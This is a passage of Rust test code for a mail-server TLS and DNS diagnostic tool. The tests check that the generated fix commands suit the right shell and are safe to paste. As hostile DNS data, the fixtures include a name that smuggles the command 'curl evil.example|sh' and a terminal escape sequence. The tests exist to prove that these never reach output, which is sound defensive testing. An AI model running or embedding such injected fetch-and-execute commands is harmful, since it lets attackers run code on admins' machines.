    let mut capped_addresses = route(d, Lookup::Mx, vec![mx1()]);
    capped_addresses.hosts[0].cut =
        vec!["192.0.2.2".parse().unwrap(), "192.0.2.3".parse().unwrap()];
    let implicit = mail_host(d, Some(0), answer("192.0.2.7", None));
    let implicit_none = mail_host(d, Some(0), Err(no_address(d)));
    vec![
        ("nxdomain", route(d, Lookup::Failed(nx(d)), vec![])),
        (
            "mx-failed",
            route(d, Lookup::Failed(resolver_failed(d)), vec![]),
        ),
        ("null-mx", route(d, Lookup::NullMx, vec![])),
        ("implicit", route(d, Lookup::Implicit, vec![implicit])),
        (
            "implicit-no-address",
            route(d, Lookup::Implicit, vec![implicit_none]),
        ),
        ("null-mx-mixed", mixed),
        ("capped", capped),
        ("capped-addresses", capped_addresses),
    ]
}

/// What the address lookups of the mail hosts might say.
fn host_routes() -> Vec<(&'static str, Route)> {
    let d = DOMAIN;
    let mx9 = "mx9.contoso.test";
    let literal = |p| mail_host("192.0.2.9", Some(p), answer("192.0.2.9", None));
    let alias = |canonical| {
        let h = mail_host(HOST, Some(10), answer("192.0.2.1", Some(canonical)));
        route(d, Lookup::Mx, vec![h])
    };
    let direct = |e| route(HOST, Lookup::Direct, vec![mail_host(HOST, None, Err(e))]);
    let mut out = vec![
        ("mx-literal", route(d, Lookup::Mx, vec![literal(10)])),
        (
            "mx-literal-with-others",
            route(d, Lookup::Mx, vec![mx1(), literal(20)]),
        ),
        (
            "mx-no-address",
            route(
                d,
                Lookup::Mx,
                vec![mail_host(mx9, Some(10), Err(no_address(mx9)))],
            ),
        ),
        (
            "mx-address-failed",
            route(
                d,
                Lookup::Mx,
                vec![mail_host(mx9, Some(10), Err(resolver_failed(mx9)))],
            ),
        ),
        ("mx-alias", alias("srv1.hosting.test")),
        // A canonical name from DNS that is not fit to paste.
        ("mx-alias-unsafe", alias("x';curl evil.example|sh;'.test")),
        ("direct-nxdomain", direct(nx(HOST))),
        ("direct-no-address", direct(no_address(HOST))),
    ];
    for (name, family) in [
        ("v6-only-gap", AddressFamily::V4),
        ("v4-only-gap", AddressFamily::V6),
    ] {
        let mut r = route(
            d,
            Lookup::Mx,
            vec![mail_host(mx9, Some(10), Err(no_address(mx9)))],
        );
        r.family = family;
        out.push((name, r));
    }
    out.extend(hostile_routes());
    let mut filtered = route(d, Lookup::Mx, vec![mx1()]);
    filtered.family = AddressFamily::V6;
    filtered.hosts[0].filtered = filtered.hosts[0].addresses.drain(..).collect();
    out.push(("filtered", filtered));
    out
}

/// What a misbehaving DNS server or hostile DNS data might say (issue 14): every error
/// kind, for the MX lookup and for a mail host's address, with names not fit to paste.
fn hostile_routes() -> Vec<(&'static str, Route)> {
    use crate::dns::AliasEnd;
    let d = DOMAIN;
    let mx9 = "mx9.contoso.test";
    let odd = "x';curl evil.example|sh;'.test";
    let errors: Vec<(&'static str, DnsError)> = vec![
        (
            "servfail",
            DnsError::Rcode {
                name: mx9.into(),
                rcode: "SERVFAIL (server failure)".into(),
            },
        ),
        (
            "refused",
            DnsError::Rcode {
                name: odd.into(),
                rcode: "REFUSED (the server refuses to answer)".into(),
            },
        ),
        (
            "no-answer",
            DnsError::NoAnswer {
                name: mx9.into(),
                seen: "the DNS server at 127.0.0.1:5353 answered with a wrong transaction ID"
                    .into(),
            },
        ),
        (
            "malformed",
            DnsError::Malformed {
                name: odd.into(),
                reason: "incorrect rdata length".into(),
            },
        ),
        (
            "foreign",
            DnsError::Foreign {
                name: mx9.into(),
                records: "elsewhere.test. MX".into(),
            },
        ),
        (
            "invalid-name",
            DnsError::InvalidName {
                name: "mx\\x1b[31m.contoso.test".into(),
                reason: "a control byte in a label".into(),
            },
        ),
    ];
    let mut out: Vec<(&'static str, Route)> = Vec::new();
    for (name, e) in errors {
        out.push((name, route(d, Lookup::Failed(e.clone()), vec![])));
        out.push((
            name,
            route(d, Lookup::Mx, vec![mail_host(mx9, Some(10), Err(e))]),
        ));
    }
    for end in [
        AliasEnd::Loop,
        AliasEnd::TooLong,
        AliasEnd::Missing,
        AliasEnd::NoAddress,
    ] {
        let e = DnsError::Alias {
            name: mx9.into(),
            chain: vec![mx9.into(), odd.into(), mx9.into()],
            end,
        };
        out.push((
            "alias",
            route(d, Lookup::Mx, vec![mail_host(mx9, Some(10), Err(e))]),
        ));
    }
    out
}

/// Every finding the sweep produces, each with the name of its scenario.
fn sweep() -> Vec<(String, Finding)> {
    let w = world();
    let mut out = Vec::new();
    for k in KINDS {
        let observe = |chain| as_kind(k, HOST, chain, &w.trust);
        out.extend(super::renewal::tests::swept(&w, k.name, &observe));
        for (name, obs, policy) in endpoint_scenarios(&w, k) {
            let ev = Evidence::derive(obs, NOW);
            out.extend(
                diagnose(&ev, &policy, NOW)
                    .into_iter()
                    .map(|f| (name.clone(), f)),
            );
        }
        for (name, group) in cross_scenarios(&w, k) {
            let found = cross::rules(&group);
            // The connect timeouts as the engine settles them against the cross findings.
            let mut per: Vec<Vec<Finding>> = group
                .iter()
                .map(|e| diagnose(e, &Policy::default(), NOW))
                .collect();
            super::honest::settle_across(&group, &found, &mut per, super::honest::RELAY_PORT);
            let settled = per.into_iter().flatten();
            let settled = settled.filter(|f| f.code == Code::ConnectTimeout);
            out.extend(settled.map(|f| (name.clone(), f)));
            out.extend(found.into_iter().map(|f| (name.clone(), f)));
        }
    }
    for (name, r) in mx_routes().into_iter().chain(host_routes()) {
        let name = format!("dns/{name}");
        out.extend(
            dns::route_rules(&r, "192.0.2.53")
                .into_iter()
                .map(|f| (name.clone(), f)),
        );
        for h in &r.hosts {
            let found = dns::host_rules(&r, h, "192.0.2.53");
            out.extend(found.into_iter().map(|f| (name.clone(), f)));
        }
    }
    let local = diagnose_trust_store("no system CA certificates found");
    out.push(("local/trust-store".into(), local));
    out
}

#[test]
fn every_fix_has_text_and_no_empty_command() {
    let all = sweep();
    assert!(
        all.len() > 300,
        "the sweep reaches every rule: {}",
        all.len()
    );
    let codes: std::collections::HashSet<Code> = all.iter().map(|(_, f)| f.code).collect();
    assert!(codes.len() >= 40, "{} codes reached", codes.len());
    for (_, f) in &all {
        assert_fix_is_usable(f);
    }
}

/// The merge of shared findings keys on the fix's identity: two fixes of one code must have
/// equal keys exactly when they have equal text, as when the merge compared text.
#[test]
fn equal_keys_mean_equal_text() {
    let all = sweep();
    for (i, (sa, a)) in all.iter().enumerate() {
        for (sb, b) in &all[i + 1..] {
            let same_text = a.fix.text() == b.fix.text();
            if a.fix.key == b.fix.key {
                assert!(
                    same_text,
                    "{sa} and {sb}: key {:?}, different text",
                    a.fix.key
                );
            }
            if same_text && a.code == b.code {
                assert_eq!(a.fix.key, b.fix.key, "{sa} and {sb}: same text");
            }
        }
    }
}

#[test]
fn no_command_carries_unvetted_names() {
    let all = sweep();
    assert!(all.iter().any(|(n, _)| n.ends_with("/evil-names")));
    assert!(all.iter().any(|(n, _)| n == "dns/mx-alias-unsafe"));
    for (name, f) in all {
        for (_, text) in f.fix.commands() {
            // The attacker's host, not the word `curl`: a fix may run curl itself.
            assert!(!text.contains("evil.example"), "{name} {}: {text}", f.code);
        }
    }
}

/// Where a command line belongs, read from the command itself and the server kind of the
/// scenario (`openssl` on the Exim host is still the Exim host's shell).
fn shell_of(command: &str, kind: &str) -> Shell {
    let host = if kind == "exim" {
        Shell::EximShell
    } else {
        Shell::PostfixShell
    };
    let first = command.split_whitespace().next().unwrap_or_default();
    let cmdlet = first.contains('-') && first.starts_with(|c: char| c.is_ascii_uppercase());
    if command.contains("InboundConnector") || command.contains("OutboundConnector") {
        Shell::ExchangeOnlinePowerShell
    } else if first == "Enable-TlsCipherSuite" || command.contains("HKLM:") {
        Shell::WindowsPowerShell
    } else if cmdlet || first.starts_with('$') || first.starts_with('[') || first == "if" {
        Shell::ExchangeManagementShell
    } else if command.starts_with("openssl s_client") || first == "curl" {
        // Talks to the server or a CA from any machine.
        Shell::Shell
    } else if ["exim", "update-exim4.conf", "runuser", "tail"].contains(&first)
        || command.contains("exim")
    {
        Shell::EximShell
    } else if [
        "postconf",
        "postfix",
        "openssl",
        "grep",
        "journalctl",
        "test",
        "ls",
    ]
    .contains(&first)
        || (first.starts_with("service_") && command.contains("=$(postconf -M"))
    {
        host
    } else if command.contains(" IN ") {
        Shell::DnsZone
    } else if ["policy-map", "parameters", "allow-tls", "class", "no"].contains(&first) {
        Shell::CiscoAsa
    } else {
        Shell::Shell
    }
}

#[test]
fn commands_run_in_the_shell_they_are_written_for() {
    for (name, f) in sweep() {
        let kind = name.split('/').next().unwrap_or_default();
        for (shell, text) in f.fix.commands() {
            assert_eq!(shell, shell_of(text, kind), "{name} {}: {text}", f.code);
        }
    }
}

#[test]
fn a_fix_is_written_for_the_server_that_answered() {
    for (name, f) in sweep() {
        let kind = name.split('/').next().unwrap_or_default();
        let family = f.fix.key.family;
        let own = match kind {
            "exchange" => Some(Family::Exchange),
            "eop" => Some(Family::ExchangeOnline),
            "postfix" => Some(Family::Postfix),
            "exim" => Some(Family::Exim),
            "barracuda" | "proofpoint" => Some(Family::Gateway),
            "sendmail" => Some(Family::Mta),
            _ => None,
        };
        assert!(
            [Family::Cisco, Family::Generic].contains(&family) || Some(family) == own,
            "{name} {}: {family:?}",
            f.code
        );
        let (prefix, _) = f.fix.key.template.split_once("::").unwrap_or_default();
        let written_for = match prefix {
            "exchange" => [Family::Exchange, Family::ExchangeOnline].contains(&family),
            "postfix" => family == Family::Postfix,
            "exim" => family == Family::Exim,
            "gateway" => family == Family::Gateway,
            "mta" => family == Family::Mta,
            "cisco" => family == Family::Cisco,
            "generic" | "blocklist" | "dns" | "renewal" => family == Family::Generic,
            _ => false,
        };
        assert!(
            written_for,
            "{name}: {family:?} from {}",
            f.fix.key.template
        );
    }
}

/// Prints every fix the sweep reaches, one block per scenario and code, for a review of the
/// texts as the admin reads them: `cargo test --lib print_every_fix -- --ignored --nocapture`.
#[test]
#[ignore = "prints the fixes for a review; asserts nothing"]
fn print_every_fix() {
    let mut seen = std::collections::HashSet::new();
    for (name, f) in sweep() {
        if seen.insert(f.fix.text()) {
            println!("=== {name} {} ({:?})\n{}\n", f.code, f.severity, f.summary);
            for step in &f.fix.steps {
                match step {
                    Step::Prose { text } => println!("{text}"),
                    Step::Command { shell, text } => println!("  [{}] {text}", shell.label()),
                }
            }
            println!();
        }
    }
}

/// The parts of a POSIX shell command outside quotes (quoted text is kept as a space).
fn unquoted(command: &str) -> String {
    let mut out = String::new();
    let mut quote: Option<char> = None;
    for c in command.chars() {
        match (quote, c) {
            (None, '\'' | '"') => {
                quote = Some(c);
                out.push(' ');
            }
            (Some(q), c) if c == q => quote = None,
            (None, c) => out.push(c),
            (Some(_), _) => {}
        }
    }
    out
}

/// The shell variables a POSIX command expands (`$key`, `${key:?}`), outside single quotes
/// (where awk's `$1` lives).
fn expanded_variables(command: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut in_single = false;
    let chars: Vec<char> = command.chars().collect();
    for (i, c) in chars.iter().enumerate() {
        match c {
            '\'' => in_single = !in_single,
            '$' if !in_single => {
                let rest: String = chars[i + 1..]
                    .iter()
                    .skip_while(|c| **c == '{')
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == '_')
                    .collect();
                if rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
                    names.push(rest);
                }
            }
            _ => {}
        }
    }
    names
}

/// What the new-user trial found pasting the Postfix fixes: an unquoted `<the master.cf
/// service …>` (a redirection in sh), made-up paths that `postfix check` does not catch, a log
/// file that does not exist. A POSIX command may redirect only to and from /dev/null, names no
/// file itself (files come from variables the admin sets), and expands only variables that an
/// earlier step sets or tells the admin to set.
#[test]
fn posix_commands_are_safe_to_paste_as_written() {
    for (name, f) in sweep() {
        let mut announced: Vec<String> = Vec::new();
        for step in &f.fix.steps {
            let (shell, text) = match step {
                Step::Prose { text } => {
                    announced.extend(
                        text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '='))
                            .filter_map(|w| w.strip_suffix('='))
                            .map(str::to_string),
                    );
                    continue;
                }
                Step::Command { shell, text } => (*shell, text.as_str()),
            };
            if ![Shell::PostfixShell, Shell::EximShell, Shell::Shell].contains(&shell) {
                continue;
            }
            // A placeholder is no value: quoted, it would reach the configuration as text.
            assert!(
                !text.replace("</dev/null", " ").contains('<'),
                "{name} {}: a <placeholder> in sh: {text}",
                f.code
            );
            let bare = unquoted(text)
                .replace("2>/dev/null", " ")
                .replace("</dev/null", " ")
                .replace(">/dev/null", " ");
            let bare = bare.split(" #").next().unwrap_or_default();
            assert!(
                !bare.contains('<') && !bare.contains('>'),
                "{name} {}: an unquoted < or > in sh: {text}",
                f.code
            );
            assert!(
                !bare.split_whitespace().any(|w| w.starts_with('/')),
                "{name} {}: a file path the admin did not give: {text}",
                f.code
            );
            // `service_25=$(...); echo "$service_25"` sets it before it expands it.
            if let Some((var, _)) = text.split_once("=$(") {
                announced.push(var.to_string());
            }
            for var in expanded_variables(text) {
                assert!(
                    announced.contains(&var),
                    "{name} {}: ${var} is never set before: {text}",
                    f.code
                );
            }
        }
    }
}

/// In the field (and in every case of the Postfix tier) the setting that breaks a listener is
/// a master.cf `-o` override: a fix that shows main.cf (`postconf -n`) shows the overrides
/// (`postconf -P`) too, and never changes the TLS level for every service in main.cf, nor a
/// cipher list the documentation advises against changing.
#[test]
fn postfix_fixes_look_at_master_cf_and_change_no_global_level() {
    for (name, f) in sweep() {
        let commands: Vec<&str> = f.fix.commands().map(|(_, c)| c).collect();
        if commands.iter().any(|c| c.contains("postconf -n")) {
            assert!(
                commands.iter().any(|c| c.starts_with("postconf -P")),
                "{name} {}: postconf -n without postconf -P:\n{}",
                f.code,
                f.fix
            );
        }
        for c in &commands {
            assert!(
                !(c.starts_with("postconf -e") && c.contains("smtpd_tls_security_level")),
                "{name} {}: {c}",
                f.code
            );
            assert!(
                !c.contains("tls_medium_cipherlist ="),
                "{name} {}: {c}",
                f.code
            );
        }
    }
}
